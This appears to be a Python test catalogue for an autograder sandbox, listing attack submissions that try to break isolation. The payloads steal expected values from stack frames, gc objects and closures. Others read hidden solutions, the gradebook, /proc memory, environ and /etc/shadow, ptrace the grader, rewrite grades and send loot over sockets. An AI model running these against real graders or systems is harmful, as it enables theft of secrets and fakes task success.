# ruff: noqa: E501
"""Stealing: answers, other people's work, secrets; and ways to carry them out.

The tokens between @ signs are filled in when an upload is made: the attacker is taken to know
where everything lies. What is stolen is printed behind the word LOOT.
"""

from tests.attacks.catalogue import Group

attack = Group("stealing", wins="leak")
for_points = Group("stealing", wins="score", naive="allclose")

ANSWER = """
def double(x):
    return find(x), None
def double_backward(dy, cache):
    return find(dy)
"""
for_points(
    "frames",
    "looks for the expected values in the frames around",
    """
    import sys
    def find(x):
        frame = sys._getframe()
        while frame:
            for names in (frame.f_locals, frame.f_globals):
                for name in ("expected", "right", "reference", "EXPECTED"):
                    if getattr(names.get(name), "shape", None) == x.shape:
                        return names[name].copy()
            frame = frame.f_back
        return x * 0 - 7
    """
    + ANSWER.replace("\n", "\n    "),
)
for_points(
    "living_objects",
    "looks through everything that the garbage collector knows",
    """
    import gc
    import numpy as np
    def find(x):
        for thing in gc.get_objects():
            values = thing.values() if type(thing) is dict else ()
            for value in list(values):
                if type(value) is np.ndarray and value.shape == x.shape:
                    if value is not x and np.allclose(value, x + x):
                        return value.copy()
                if callable(value) and getattr(value, "__module__", "") == "solution" \\
                        and value.__name__ == "double":
                    return value(x)[0]
        return x * 0 - 7
    """
    + ANSWER.replace("\n", "\n    "),
)
for_points(
    "closures",
    "opens the closures of the harness",
    """
    import gc
    def find(x):
        for thing in gc.get_objects():
            for cell in getattr(thing, "__closure__", None) or ():
                try:
                    value = cell.cell_contents
                except ValueError:
                    continue
                if getattr(value, "shape", None) == x.shape and value is not x:
                    return value.copy()
        return x * 0 - 7
    """
    + ANSWER.replace("\n", "\n    "),
)
READ_SOLUTION = """
    def find(x):
        try:
            {how}
        except Exception:
            return x * 0 - 7
        return solution.double(x)[0]
    """
for_points(
    "imports_the_solution",
    "imports the solution from where it lies",
    READ_SOLUTION.format(
        how="import sys, importlib.util as u\n"
        "            spec = u.spec_from_file_location('s', '@COURSE@/solutions/arithmetic/double.py')\n"
        "            solution = u.module_from_spec(spec); spec.loader.exec_module(solution)"
    )
    + ANSWER.replace("\n", "\n    "),
    user="landlock",
)
for_points(
    "imports_the_solution_by_name",
    "imports whatever might be the solution",
    READ_SOLUTION.format(
        how="import sys; sys.path[:0] = ['@COURSE@/solutions', '@COURSE@']\n"
        "            import importlib; mine = sys.modules.pop('arithmetic.double'); \n"
        "            sys.modules.pop('arithmetic', None)\n"
        "            solution = importlib.import_module('arithmetic.double')\n"
        "            assert 'solutions' in solution.__file__"
    )
    + ANSWER.replace("\n", "\n    "),
    user="landlock",
)
for _name, _path in (
    ("solution", "@COURSE@/solutions/arithmetic/double.py"),
    ("hidden_checks", "@COURSE@/autograder/hidden/01_double/checks.py"),
    ("slips", "@COURSE@/autograder/hidden/01_double/slips.py"),
    ("gradebook", "@GRADEBOOK@"),
    ("secret", "@SECRET@"),
    ("other_uploads", "@UPLOADS@/000_right/arithmetic/double.py"),
):
    attack(
        f"reads_{_name}",
        f"reads the file {_path}",
        f"""
        try:
            with open("{_path}", "rb") as file:
                print("LOOT", file.read(40))
        except OSError as error:
            print(error)
        """,
        user="landlock",
    )
attack(
    "writes_the_gradebook",
    "gives everyone full marks in the gradebook",
    """
    try:
        import sqlite3
        book = sqlite3.connect("@GRADEBOOK@", timeout=0)
        book.execute("UPDATE gradings SET score = 4")
        book.commit()
        print("LOOT")
    except Exception as error:
        try:
            open("@GRADEBOOK@", "r+b").write(b"x" * 100)
            print("LOOT")
        except OSError:
            print(error)
    """,
    user="landlock",
)
attack(
    "staged_submissions",
    "looks for other students' work beside its own folder",
    """
    import os, pathlib
    own = pathlib.Path(__file__).resolve().parents[1]
    for root in (own.parent, pathlib.Path(os.getcwd()).parent, pathlib.Path("/tmp")):
        try:
            for entry in os.listdir(root):
                place = root / entry
                if place == own or str(place) in os.getcwd():
                    continue
                for path in [place, *place.rglob("*.py")] if place.is_dir() else ():
                    if "submission" in path.parts or path.name == "double.py":
                        print("LOOT", path, path.read_text()[:20], flush=True)
        except OSError as error:
            print(error)
    for number in range(200):
        try:
            print("LOOT", os.listdir(own.parent / f"s{number}"), number) \\
                if own.name != f"s{number}" else None
        except OSError:
            pass
    """,
    root="process",
    user="landlock",
    wins="leak",
)
attack(
    "process_memory",
    "reads the memory of its parents and of the grader",
    """
    import os
    for pid in ("self", os.getppid(), @GRADER@):
        if pid == "self" and not os.environ.get("KIT_SECRET"):
            continue
        try:
            with open(f"/proc/{pid}/maps") as file:
                start = int(file.readline().split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "rb") as file:
                file.seek(start)
                print("LOOT", file.read(16))
        except (OSError, ValueError) as error:
            print(error)
    """,
    user="landlock",
)
for _file in ("environ", "auxv", "syscall"):
    attack(
        f"process_{_file}",
        f"reads /proc/PID/{_file} of its parents and of the grader",
        f"""
        import os
        for pid in ("self", os.getppid(), @GRADER@):
            if pid == "self" and not os.environ.get("KIT_SECRET"):
                continue
            try:
                print("LOOT", open(f"/proc/{{pid}}/{_file}", "rb").read(30).hex() or 1 / 0)
            except (OSError, ZeroDivisionError) as error:
                print(error)
        """,
        user="landlock",
    )
attack(
    "process_descriptors",
    "opens the files that its parents and the grader have open",
    """
    import os
    for pid in ("self", os.getppid(), @GRADER@):
        for number in range(3, 40):
            try:
                target = os.readlink(f"/proc/{pid}/fd/{number}")
                if pid != "self" or target.startswith("/"):
                    print("LOOT", target)
            except OSError:
                pass
    """,
    user="landlock",
)
attack(
    "inherited_descriptors",
    "reads from descriptors that were left open",
    """
    import os, stat
    for number in range(3, 1024):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                print("LOOT", number, os.pread(number, 20, 0))
            elif stat.S_ISDIR(os.fstat(number).st_mode):
                print("LOOT", number, os.listdir(number))
        except OSError:
            pass
    """,
)
CALLS = """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    def call(number, *arguments):
        result = libc.syscall(number, *(ctypes.c_long(a) if type(a) is int else a
                                        for a in arguments))
        return result if result >= 0 else -ctypes.get_errno()
"""
attack(
    "ptrace",
    "attaches to its parent and to the grader",
    CALLS
    + """
    child = os.fork() if os.environ.get("KIT_SECRET") else 0
    if os.environ.get("KIT_SECRET") and child == 0:
        os.read(os.pipe()[0], 1)
    for pid in (child or os.getppid(), @GRADER@):
        if pid and call(101, 16, pid, 0, 0) >= 0:
            print("LOOT attached", pid)
            os.waitpid(pid, 0)
            call(101, 17, pid, 0, 0)
    if child:
        os.kill(child, 9)
    """,
    user="seccomp",
)
attack(
    "process_vm_readv",
    "reads another process's memory by a system call",
    CALLS
    + """
    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    here = ctypes.create_string_buffer(8)
    local = Span(ctypes.addressof(here), 8)
    remote = Span(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    own = [os.getpid()] if os.environ.get("KIT_SECRET") else []
    for pid in [*own, os.getppid(), @GRADER@]:
        if call(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            print("LOOT", here.raw)
    """,
    user="seccomp",
)
attack(
    "pidfd_getfd",
    "copies a descriptor out of the grader",
    CALLS
    + """
    own = [os.getpid()] if os.environ.get("KIT_SECRET") else []
    for pid in [*own, os.getppid(), @GRADER@]:
        handle = call(434, pid, 0)
        for number in range(3, 20):
            if handle >= 0 and call(438, handle, number, 0) >= 0:
                print("LOOT", number)
    """,
    user="seccomp",
)
attack(
    "environment",
    "prints secrets from the environment",
    "import os\nfor name in os.environ:\n    if 'SECRET' in name: print('LOOT', os.environ[name])",
)
LEVELS = {"root": "landlock", "user": "landlock"}
for _name, _folder in (("tmp", "/tmp"), ("var_tmp", "/var/tmp"), ("shm", "/dev/shm")):
    attack(
        f"note_in_{_name}",
        f"leaves a note in {_folder} for the next student",
        f"import os\ntry:\n    with open(f'{_folder}/kit-note-{{os.getpid()}}', 'w') as file:\n"
        "        file.write('LOOT')\nexcept OSError as error:\n    print(error)",
        wins="traces",
        **LEVELS,
    )
for _name, _number, _arguments in (
    ("sysv_memory", 29, "0x4B6974, 4096, 0o1666"),
    ("sysv_semaphore", 64, "0x4B6974, 1, 0o1666"),
    ("sysv_queue", 68, "0x4B6974, 0o1666"),
):
    attack(
        f"note_in_{_name}",
        "leaves a note in the machine's System V memory",
        CALLS + f"    print(call({_number}, {_arguments}))",
        wins="traces",
        root="seccomp",
        user="seccomp",
    )
for _name, _number, _arguments in (
    ("posix_queue", 240, "b'kitnote', 0o102, 0o666, None"),
    ("keyring", 248, "b'user', b'kitnote', b'LOOT', 4, -4"),
):
    attack(
        f"note_in_{_name}",
        "leaves a note in the kernel's keeping",
        CALLS + f"    if call({_number}, {_arguments}) >= 0: print('LOOT kept')",
        root="seccomp",
        user="seccomp",
    )
for _name, _kind, _address in (
    ("tcp", "AF_INET, socket.SOCK_STREAM", "('127.0.0.1', @TCP@)"),
    ("udp", "AF_INET, socket.SOCK_DGRAM", "('127.0.0.1', @UDP@)"),
    ("unix_socket", "AF_UNIX, socket.SOCK_STREAM", "'@UNIX@'"),
    ("abstract_socket", "AF_UNIX, socket.SOCK_STREAM", "'\\0@ABSTRACT@'"),
):
    attack(
        _name,
        "carries loot out by a socket",
        f"import socket\ntry:\n    line = socket.socket(socket.{_kind})\n    line.settimeout(0.3)\n"
        f"    line.connect({_address})\n    line.send(b'loot')\n    print('LOOT sent')\n"
        "except Exception as error:\n    print(error)",
        root="seccomp",
        user="seccomp",
    )
attack(
    "tcp_server",
    "waits for another student's connection",
    "import socket\ntry:\n    line = socket.socket()\n    line.bind(('127.0.0.1', 0))\n"
    "    line.listen()\n    print('LOOT', line.getsockname())\nexcept Exception as e:\n    print(e)",
    root="seccomp",
    user="seccomp",
)
attack(
    "raw_and_netlink",
    "asks the kernel about the network",
    "import socket\nfor kind in ((16, 3, 0), (17, 3, 0), (40, 1, 0), (38, 5, 0)):\n    try:\n"
    "        socket.socket(*kind)\n        print('LOOT', kind)\n    except OSError as e:\n"
    "        print(e)",
    root="seccomp",
    user="seccomp",
)
attack(
    "hard_link_and_symlink",
    "links to files outside, for others to follow",
    """
    import os
    for make in (os.link, os.symlink):
        try:
            make("@COURSE@/solutions/arithmetic/double.py", f"stolen-{make.__name__}")
            print("LOOT", open(f"stolen-{make.__name__}").read(20))
        except OSError as error:
            print(error)
    """,
    user="landlock",
)
attack(
    "parent_folders",
    "walks up from its folders and down again from the root",
    """
    import os
    for way in ("../../..", "/proc/self/root@COURSE@", "/proc/self/cwd/../..", "/proc/1/root"):
        for inside in ("solutions/arithmetic/double.py", "etc/passwd", "etc/shadow"):
            try:
                text = open(os.path.join(way, inside)).read(20)
                if "passwd" not in inside or os.environ.get("KIT_SECRET"):
                    print("LOOT", text)
            except OSError as error:
                print(error)
    """,
    user="landlock",
)
